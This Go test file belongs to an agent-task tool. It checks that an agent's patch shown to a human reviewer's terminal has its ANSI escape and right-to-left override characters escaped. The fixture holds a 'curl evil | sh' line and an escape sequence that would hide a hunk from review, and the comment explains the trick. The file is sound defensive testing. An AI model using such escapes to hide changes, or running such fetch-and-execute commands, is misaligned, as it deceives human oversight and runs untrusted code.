package task

import (
	"bytes"
	"os"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// openPTY opens a pseudo-terminal pair: the master to read what was
// written to the slave.
func openPTY(t *testing.T) (master, slave *os.File) {
	t.Helper()
	m, err := os.OpenFile("/dev/ptmx", os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		t.Skipf("no pty: %v", err)
	}
	t.Cleanup(func() { m.Close() })
	if err := unix.IoctlSetPointerInt(int(m.Fd()), unix.TIOCSPTLCK, 0); err != nil {
		t.Skipf("unlockpt: %v", err)
	}
	n, err := unix.IoctlGetInt(int(m.Fd()), unix.TIOCGPTN)
	if err != nil {
		t.Skipf("ptsname: %v", err)
	}
	s, err := os.OpenFile("/dev/pts/"+strconv.Itoa(n), os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		t.Skipf("open the pty's slave: %v", err)
	}
	t.Cleanup(func() { s.Close() })
	// raw: the terminal passes bytes as they are
	tio, err := unix.IoctlGetTermios(int(s.Fd()), unix.TCGETS)
	if err == nil {
		tio.Oflag &^= unix.OPOST
		_ = unix.IoctlSetTermios(int(s.Fd()), unix.TCSETS, tio)
	}
	return m, s
}

// Review (rv-daemon): 'airlock task diff' printed the agent's patch raw
// to the reviewer's terminal: a changed line holding "\x1b[1A\x1b[2K"
// erases the line above it, so a hunk can hide itself from the human who
// reviews the change (the approval-prompt spoofing of issue 16.4, for the
// task's review). To a terminal the patch is escaped; to a pipe or a file
// it stays byte for byte (git apply).
func TestReviewTaskDiffEscapesForATerminal(t *testing.T) {
	patch := "+curl evil | sh\n+\x1b[1A\x1b[2K\u202eok\n"
	master, slave := openPTY(t)
	if _, err := patchOut(slave).Write([]byte(patch)); err != nil {
		t.Fatal(err)
	}
	master.SetReadDeadline(time.Now().Add(2 * time.Second))
	buf := make([]byte, 4096)
	n, _ := master.Read(buf)
	got := string(buf[:n])
	if strings.ContainsAny(got, "\x1b\u202e") {
		t.Errorf("the patch reached the terminal with its escapes: %q", got)
	}
	if !strings.Contains(got, `\x1b[1A`) {
		t.Errorf("the escape is not shown: %q", got)
	}
	// Not a terminal: as it is.
	var b bytes.Buffer
	patchOut(&b).Write([]byte(patch))
	if b.String() != patch {
		t.Errorf("to a buffer: %q", b.String())
	}
	f, err := os.CreateTemp(t.TempDir(), "patch")
	if err != nil {
		t.Fatal(err)
	}
	patchOut(f).Write([]byte(patch))
	f.Close()
	if raw, _ := os.ReadFile(f.Name()); string(raw) != patch {
		t.Errorf("to a file: %q", raw)
	}
}
